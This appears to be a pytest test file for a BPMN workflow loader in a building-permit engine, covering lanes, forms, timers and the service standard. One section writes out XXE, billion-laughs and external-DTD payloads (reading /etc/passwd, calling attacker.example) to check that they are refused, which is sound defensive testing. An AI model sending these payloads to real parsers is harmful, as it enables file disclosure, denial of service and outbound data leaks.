"""Loading BPMN into the typed model: what designers draw, and what attackers send."""

from __future__ import annotations

from pathlib import Path

import pytest

from engine.bpmn.model import EnumValue, TimerDefinition
from engine.bpmn.reader import load_bpmn, load_bpmn_file, parse_xml
from engine.errors import InvalidBpmn, UnsafeXml

HERE = Path(__file__).parent / "bpmn"
BPMN_NS = "http://www.omg.org/spec/BPMN/20100524/MODEL"


def definitions(body: str, *, extra: str = "") -> bytes:
    """A ``definitions`` document around ``body`` (process XML with the bpmn: prefix)."""
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>\n<bpmn:definitions xmlns:bpmn="{BPMN_NS}" '
        'xmlns:pf="https://permitflow.org/schema/bpmn/1.0" '
        f'xmlns:camunda="http://camunda.org/schema/1.0/bpmn" id="defs" {extra}>\n'
        f"{body}\n</bpmn:definitions>\n"
    ).encode()


@pytest.fixture(scope="module")
def permit():
    return load_bpmn_file(HERE / "building_permit.bpmn")


@pytest.fixture(scope="module")
def process(permit):
    return permit.processes["building_permit"]


def test_file_metadata(permit):
    data = (HERE / "building_permit.bpmn").read_bytes()
    assert permit.source == "building_permit.bpmn"
    assert len(permit.sha256) == 64 and permit.sha256 == load_bpmn(data).sha256
    assert (permit.exporter, permit.exporter_version) == ("Camunda Modeler", "5.20.0")
    assert permit.target_namespace == "https://permitflow.org/test"
    assert permit.messages == {"Msg_withdraw": "Withdrawn"}
    assert permit.has_diagram and permit.diagram_element_ids == {"start", "register", "f1"}
    assert (permit.annotations, permit.groups) == (2, 1)
    assert permit.unsupported == []


def test_process_pool_and_message_flows(permit, process):
    assert process.is_executable and process.name == "Persetujuan Bangunan Gedung"
    assert (process.participant_id, process.participant_name) == ("Pool_office", "DPMPTSP Kota")
    assert permit.participants["Pool_applicant"].process_ref is None
    [flow] = permit.message_flows
    assert (flow.id, flow.source, flow.target, flow.name) == (
        "MF_withdraw",
        "Pool_applicant",
        "msg_withdrawn",
        "withdraw",
    )
    assert process.data_objects == ["Site photos"]
    assert permit.main_process() is process


def test_nested_lanes_give_nodes_the_innermost_lane(process):
    lanes = process.lanes
    assert {lane_id: lane.role for lane_id, lane in lanes.items()} == {
        "Lane_front": "front_office",
        "Lane_tech": "technical_team",
        "Lane_survey": "surveyor",  # pf:role wins over the name
        "Lane_review": "review_approval",  # "  Review & Approval! " slugified
    }
    assert lanes["Lane_survey"].parent_lane_id == "Lane_tech"
    assert process.nodes["review"].lane_id == "Lane_review"
    assert process.nodes["survey"].lane_id == "Lane_survey"
    assert lanes["Lane_tech"].node_ids == []
    assert lanes["Lane_front"].node_ids == ["start", "register", "compute", "wait_payment"]


def test_sub_process_nodes_have_a_parent_and_inherit_its_lane(process):
    visit = process.nodes["site_visit"]
    assert visit.parent_id == "survey" and visit.lane_id == "Lane_survey"
    assert [n.id for n in process.start_events()] == ["start"]
    assert [n.id for n in process.start_events(top_level=False)] == ["start", "sp_start"]
    assert process.flows["sf1"].process_id == "building_permit"


def test_flows_are_derived_from_sequence_flows(process):
    decide = process.nodes["decide"]
    assert decide.incoming == ["f6"] and decide.outgoing == ["f_approve", "f_reject"]
    assert decide.default_flow == "f_reject"
    assert process.flows["f_approve"].condition == '${decision == "approve"}'
    assert process.flows["f_reject"].condition is None
    assert process.flows["f_approve"].line == 160


def test_timers_and_boundary_events(process):
    wait = process.nodes["wait_payment"]
    assert wait.event_definitions == ("timer",)
    assert wait.timer == TimerDefinition("date", "due_in_working_days(3)")
    timer = process.nodes["survey_timer"]
    assert timer.timer == TimerDefinition("duration", "P3D")
    assert (timer.attached_to, timer.cancel_activity) == ("survey", False)
    withdrawn = process.nodes["msg_withdrawn"]
    assert withdrawn.cancel_activity and withdrawn.message_ref == "Msg_withdraw"
    assert [b.id for b in process.boundary_events("review")] == ["msg_withdrawn"]
    assert process.nodes["withdrawn_end"].event_definitions == ("terminate",)


def test_task_details(process):
    register = process.nodes["register"]
    assert register.name == "Register application"  # the line break becomes a space
    assert register.line == 110 and register.is_human
    assert register.documentation == "Check the applicant's identity."
    assert register.properties == {
        "checklist": "ktp,land",
        "candidateGroups": "front_office",
        "sla": "2",
    }
    compute = process.nodes["compute"]
    assert compute.script == "fee = floor_area * 1000\nfee_due = True"
    assert compute.script_format == "python"


def test_forms_with_every_type_and_constraint(process):
    start = process.nodes["start"]
    assert start.form_key == "embedded:app:start"
    fields = {f.id: f for f in start.form_fields}
    assert [f.type for f in start.form_fields] == [
        "string",
        "long",
        "double",
        "boolean",
        "date",
        "enum",
        "file",
        "string",
    ]
    name = fields["applicant_name"]
    assert name.required and name.constraints == {
        "required": "",
        "minlength": "3",
        "maxlength": "100",
    }
    assert fields["floor_area"].constraints == {"min": "1", "max": "10000"}
    assert fields["land_value"].default == "0.5"
    assert fields["visit_date"].constraints == {"min": "2024-01-01"}
    enum = fields["building_type"]
    assert enum.default == "house"
    assert enum.enum_values == (EnumValue("house", "House"), EnumValue("shop", "Shop house"))
    assert fields["ktp"].properties == {"accept": ".pdf,.jpg"}
    code = fields["region_code"]
    assert code.readonly and code.constraints["pattern"] == "^[A-Z]{3}$"
    [done] = process.nodes["register"].form_fields
    assert (done.id, done.label, done.type) == (
        "documents_complete",
        "Documents complete?",
        "boolean",
    )


def test_service_standard(process):
    standard = process.service_standard
    assert (standard.code, standard.name) == ("PBG", "Persetujuan Bangunan Gedung (PBG)")
    assert standard.legal_basis == ["PP 16/2021 tentang Bangunan Gedung", "Perda 5/2022"]
    assert standard.requirements == ["Fotokopi KTP pemohon", "Bukti kepemilikan tanah"]
    assert standard.max_days == 28
    assert (standard.fee.amount, standard.fee.currency) == (150000.0, "IDR")
    assert standard.fee.description == "Retribusi PBG sesuai Perda"
    assert standard.complaint_channel == "LAPOR! / SP4N"
    assert standard.as_dict()["fee"]["amount"] == 150000.0


def test_lane_without_name_uses_its_id_and_prefixes_do_not_matter():
    data = (
        f'<definitions xmlns="{BPMN_NS}" id="d"><process id="p">'
        '<laneSet><lane id="Lane_9"><flowNodeRef>t</flowNodeRef></lane></laneSet>'
        '<startEvent id="s"/><userTask id="t" name="Do"/>'
        '<sequenceFlow id="f" sourceRef="s" targetRef="t"/></process></definitions>'
    ).encode()
    model = load_bpmn(data)
    process = model.processes["p"]
    assert not process.is_executable
    assert process.lanes["Lane_9"].role == "Lane_9"
    assert process.nodes["t"].lane_id == "Lane_9" and process.nodes["t"].outgoing == []
    assert model.has_diagram is False


def test_loops_event_sub_processes_and_signals_are_read():
    model = load_bpmn(
        definitions(
            '<bpmn:process id="p">'
            '<bpmn:userTask id="many" name="Sign"><bpmn:multiInstanceLoopCharacteristics isSequential="true">'
            "<bpmn:loopDataInputRef>agencies</bpmn:loopDataInputRef>"
            '<bpmn:inputDataItem id="agency"/>'
            "<bpmn:completionCondition>done</bpmn:completionCondition>"
            "</bpmn:multiInstanceLoopCharacteristics></bpmn:userTask>"
            '<bpmn:task id="again"><bpmn:standardLoopCharacteristics loopMaximum="3">'
            "<bpmn:loopCondition>more</bpmn:loopCondition></bpmn:standardLoopCharacteristics></bpmn:task>"
            '<bpmn:intermediateThrowEvent id="sig"><bpmn:signalEventDefinition/></bpmn:intermediateThrowEvent>'
            '<bpmn:subProcess id="esp" triggeredByEvent="true"/>'
            "</bpmn:process>"
        )
    )
    nodes = model.processes["p"].nodes
    assert model.unsupported == []
    loop = nodes["many"].loop
    assert (loop.kind, loop.sequential, loop.collection, loop.element_variable) == (
        "multiInstance",
        True,
        "agencies",
        "agency",
    )
    assert loop.condition == "done"
    assert (nodes["again"].loop.kind, nodes["again"].loop.maximum) == ("standard", 3)
    assert nodes["esp"].triggered_by_event and nodes["sig"].event_definitions == ("signal",)


def test_unsupported_elements_are_listed_but_still_loaded():
    model = load_bpmn(
        definitions(
            '<bpmn:process id="p">'
            '<bpmn:complexGateway id="rules" name="Check credit"/>'
            '<bpmn:userTask id="many" name="Sign"><bpmn:multiInstanceLoopCharacteristics/></bpmn:userTask>'
            '<bpmn:intermediateThrowEvent id="sig"><bpmn:signalEventDefinition/></bpmn:intermediateThrowEvent>'
            '<bpmn:subProcess id="esp" triggeredByEvent="true"/>'
            "</bpmn:process>"
        )
    )
    found = [(u.tag, u.id, u.process_id) for u in model.unsupported]
    assert found == [("complexGateway", "rules", "p")]
    assert model.processes["p"].nodes["rules"].kind == "complexGateway"


def test_utf8_bom_and_latin1_declaration_load():
    body = '<bpmn:process id="p"><bpmn:task id="t" name="Verifikasi dokumen – tahap 1"/></bpmn:process>'
    model = load_bpmn(b"\xef\xbb\xbf" + definitions(body))
    assert model.processes["p"].nodes["t"].name == "Verifikasi dokumen – tahap 1"
    latin1 = (
        f'<?xml version="1.0" encoding="ISO-8859-1"?><definitions xmlns="{BPMN_NS}">'
        '<process id="p"><task id="t" name="Caf\xe9"/></process></definitions>'
    ).encode("latin-1")
    assert load_bpmn(latin1).processes["p"].nodes["t"].name == "Café"


# -- hostile and broken input ------------------------------------------------------

XXE = (
    '<?xml version="1.0"?>\n<!DOCTYPE d [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
    f'<definitions xmlns="{BPMN_NS}"><process id="p" name="&xxe;"/></definitions>'
).encode()
BILLION_LAUGHS = (
    '<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(
        f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10 if i > 1 else "&lol;" * 10}">'
        for i in range(1, 10)
    )
    + f']>\n<definitions xmlns="{BPMN_NS}"><process id="p" name="&lol9;"/></definitions>'
).encode()
EXTERNAL_DTD = (
    '<?xml version="1.0"?>\n<!DOCTYPE definitions SYSTEM "http://attacker.example/evil.dtd">\n'
    f'<definitions xmlns="{BPMN_NS}"><process id="p"/></definitions>'
).encode()


@pytest.mark.parametrize(
    "payload", [XXE, BILLION_LAUGHS, EXTERNAL_DTD], ids=["xxe", "billion_laughs", "external_dtd"]
)
def test_documents_with_a_dtd_are_refused(payload):
    with pytest.raises(UnsafeXml, match="DOCTYPE") as caught:
        load_bpmn(payload, "evil.bpmn")
    assert caught.value.message.startswith("evil.bpmn ")
    assert "root:" not in caught.value.message


def test_utf16_doctype_is_refused_too():
    with pytest.raises(UnsafeXml, match="DOCTYPE"):
        load_bpmn(XXE.decode().replace('<?xml version="1.0"?>', "").encode("utf-16"))


def test_oversized_input_is_refused_before_parsing(monkeypatch):
    monkeypatch.setenv("PERMITFLOW_MAX_BPMN_BYTES", "1000")
    data = definitions('<bpmn:process id="p"/>' + " " * 1000)
    with pytest.raises(UnsafeXml, match=r"too large: 1,\d+ bytes, the limit is 1,000 bytes"):
        load_bpmn(data, "big.bpmn")


def test_default_size_limit_is_ten_megabytes():
    data = definitions(" " * (10 * 1024 * 1024))
    with pytest.raises(UnsafeXml, match="limit is 10,485,760 bytes"):
        load_bpmn(data)


def test_not_xml_names_the_error_and_line():
    with pytest.raises(
        InvalidBpmn, match=r"^x\.bpmn is not well-formed XML: .+ \(line 2\)$"
    ) as caught:
        load_bpmn(b"<definitions>\n<oops></definitions>", "x.bpmn")
    [problem] = caught.value.problems
    assert (problem.code, problem.line) == ("not_well_formed", 2)


@pytest.mark.parametrize("data", [b"", b"   \n", b"just text"])
def test_empty_or_text_input_is_invalid(data):
    with pytest.raises(InvalidBpmn, match="(empty|not well-formed)"):
        load_bpmn(data, "x.bpmn")


def test_a_root_other_than_definitions_is_named():
    with pytest.raises(InvalidBpmn, match=r"root element is <html> without a namespace"):
        load_bpmn(b"<html><body/></html>", "page.html")
    with pytest.raises(InvalidBpmn, match=r"<process> in namespace " + BPMN_NS):
        load_bpmn(f'<process xmlns="{BPMN_NS}" id="p"/>'.encode())


def test_parse_xml_returns_the_definitions_root():
    root = parse_xml(definitions('<bpmn:process id="p"/>'), "ok.bpmn")
    assert root.tag == f"{{{BPMN_NS}}}definitions"


def test_missing_file_is_invalid(tmp_path):
    with pytest.raises(InvalidBpmn, match="cannot be read"):
        load_bpmn_file(tmp_path / "nope.bpmn")


def test_two_thousand_nodes_load():
    tasks = "".join(
        f'<bpmn:userTask id="t{i}" name="Task {i}"/><bpmn:sequenceFlow id="f{i}" '
        f'sourceRef="{"s" if i == 0 else f"t{i - 1}"}" targetRef="t{i}"/>'
        for i in range(2000)
    )
    data = definitions(f'<bpmn:process id="p"><bpmn:startEvent id="s"/>{tasks}</bpmn:process>')
    model = load_bpmn(data)  # speed: benchmarks/analysis_scale.py
    assert len(model.processes["p"].nodes) == 2001
    assert model.processes["p"].nodes["t1999"].incoming == ["f1999"]


@pytest.mark.parametrize(
    "payload", [XXE, BILLION_LAUGHS, EXTERNAL_DTD], ids=["xxe", "billion_laughs", "external_dtd"]
)
def test_the_parser_refuses_a_dtd_even_without_the_byte_scan(payload, monkeypatch):
    from engine.bpmn import xml as bpmn_xml

    monkeypatch.setattr(bpmn_xml, "_DANGEROUS_MARKUP", ())
    with pytest.raises(UnsafeXml, match="(declares a DOCTYPE|uses a DTD or XML entities)"):
        load_bpmn(payload, "evil.bpmn")
